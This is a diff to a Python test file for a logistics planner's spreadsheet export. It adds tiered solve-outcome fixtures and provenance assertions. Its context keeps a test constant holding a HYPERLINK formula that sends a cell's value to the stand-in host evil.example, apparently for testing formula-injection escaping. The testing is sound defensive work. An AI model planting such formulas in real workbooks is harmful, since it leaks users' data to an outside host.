@@ -22,7 +22,7 @@ from logistics.export import (
 )
 from logistics.reader import read_workbook
 from logistics.xlsx import TABLE_NAME_RE, safe_text
-from models.results import TABLE_COLUMNS, Plan, SolveStatus
+from models.results import TABLE_COLUMNS, Plan, SolveStatus, TierOutcome
 from tests.libreoffice import convert_to_pdf
 
 EVIL_LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -396,6 +396,12 @@ def plan() -> Plan:
             "constraints": 900,
             "nonzeros": 5000,
         },
+        tiers=(
+            TierOutcome("shortfall", SolveStatus.optimal, "optimal", 10000.0, 10000.0, 0.0, 1.5),
+            TierOutcome(
+                "exposure + cost", SolveStatus.optimal, "optimal", 340.678, 339.4, 0.37, 2.5
+            ),
+        ),
     )
 
 
@@ -733,6 +739,9 @@ def test_run_sheet_records_provenance(workbook_path: Path) -> None:
     assert value[("model_size", "nonzeros")] == 5000
     assert value[("override", "1")] == "Routes R2 threat_level = 5 (days 2-3)"
     assert value[("override", "2")] == "'=remove unit U9"
+    assert value[("priority", "1 shortfall: status")] == "optimal"
+    assert value[("priority", "2 exposure + cost: gap")] == 0.37
+    assert value[("priority", "2 exposure + cost: time")] == 2.5
 
 
 def test_write_stage_is_measured_when_not_given(
